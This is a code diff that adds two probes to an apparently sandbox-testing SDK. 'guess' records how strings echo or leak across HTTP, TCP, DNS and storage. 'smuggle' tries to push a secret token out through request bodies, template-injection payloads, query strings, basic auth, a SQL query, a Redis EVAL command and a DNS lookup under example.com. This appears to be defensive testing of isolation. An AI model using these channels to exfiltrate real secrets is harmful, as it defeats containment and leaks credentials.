@@ -40,6 +40,8 @@ func init() {
 	sdk.Probe("kv", kv)
 	sdk.Probe("echo", echo)
 	sdk.Probe("memory", memory)
+	sdk.Probe("guess", guess)
+	sdk.Probe("smuggle", smuggle)
 	sdk.Probe("stumble", stumble)
 	sdk.Probe("clock", func(*sdk.Run) sdk.Result { return sdk.Healthy(strconv.FormatInt(time.Now().UnixNano(), 10)) })
 	sdk.Probe("past", past)
@@ -263,6 +265,97 @@ func echo(r *sdk.Run) sdk.Result {
 		r.Detail("error", err.Error())
 	}
 	return sdk.Healthy(all.String())
+}
+
+// guess has texts echoed by HTTP and by TCP, and names them to calls that are
+// refused. Its message is all that it can observe of the first: lengths, read by
+// read, whether the text came back as it was, and the texts of errors with its own
+// text taken out. A detail is what differs in another.
+func guess(r *sdk.Run) sdk.Result {
+	first := ""
+	for i, g := range r.Strings("guesses") {
+		var seen strings.Builder
+		note := func(err error) { seen.WriteString(strings.ReplaceAll(err.Error(), g, "GUESS") + ";") }
+		if url := r.String("url"); url != "" {
+			res, err := r.HTTP("GET", url).Header("Authorization", "Bearer "+r.String("token")).Body(g).Send()
+			if err != nil {
+				return sdk.Unhealthy(err.Error())
+			}
+			observe(&seen, res, g)
+			seen.WriteString(strconv.FormatBool(res.Header("X-Echo") == g) + ";")
+			res.Close()
+		}
+		if address := r.String("address"); address != "" {
+			c, err := r.Dial("tcp", address)
+			if err != nil {
+				return sdk.Unhealthy(err.Error())
+			}
+			if err := c.WriteString(g); err != nil {
+				note(err)
+			}
+			observe(&seen, c, g)
+			c.Close()
+		}
+		if _, err := r.HTTP("GET", "https://elsewhere.invalid/"+g).Send(); err != nil {
+			note(err)
+		}
+		if _, err := r.Resolve("A", g, ""); err != nil {
+			note(err)
+		}
+		if err := r.KVSet("k", g); err != nil {
+			note(err)
+		} else if v, err := r.KVGet("k"); err != nil || v != g {
+			seen.WriteString("kept as another text;")
+		}
+		if first == "" {
+			first = seen.String()
+		} else if seen.String() != first {
+			r.Detail(strconv.Itoa(i), seen.String())
+		}
+	}
+	return sdk.Healthy(first)
+}
+
+// observe reads to the end in small pieces.
+func observe(seen *strings.Builder, from io.Reader, want string) {
+	var all []byte
+	for p := make([]byte, 7); ; {
+		n, err := from.Read(p)
+		all = append(all, p[:n]...)
+		seen.WriteString(strconv.Itoa(n) + ",")
+		if err != nil {
+			break
+		}
+	}
+	seen.WriteString(strconv.FormatBool(string(all) == want) + ";")
+}
+
+// smuggle sends its secret by every way on which the far end could compute on it.
+func smuggle(r *sdk.Run) sdk.Result {
+	token, url := r.String("token"), r.String("url")
+	try := func(name string, err error) {
+		if err == nil {
+			r.Detail(name, "sent")
+		} else {
+			r.Detail(name, err.Error())
+		}
+	}
+	send := func(name string, q *sdk.Request) { _, err := q.Send(); try(name, err) }
+	send("body", r.HTTP("GET", url).Body(token))
+	send("template", r.HTTP("GET", url).Header("Content-Type", "application/json").Body(`{"template":"{{'`+token+`'|base64_encode}}"}`))
+	send("query", r.HTTP("GET", url+"?q="+token))
+	send("header", r.HTTP("GET", url).Header("X-Template", "{{'"+token+"'|upper}}"))
+	send("basic", r.HTTP("GET", url).BasicAuth("me", "x"+token))
+	_, err := r.Query(r.String("database"), "SELECT hex('"+token+"')")
+	try("sql", err)
+	c, err := r.Dial("tcp", r.String("address"))
+	if err == nil {
+		err = c.WriteString("EVAL \"return string.byte(ARGV[1],1)\" 0 " + token + "\r\n")
+	}
+	try("redis", err)
+	_, err = r.Resolve("A", token+".example.com", "")
+	try("dns", err)
+	return sdk.Healthy("tried")
 }
 
 // memory looks for the two halves of a secret, one right after the other,
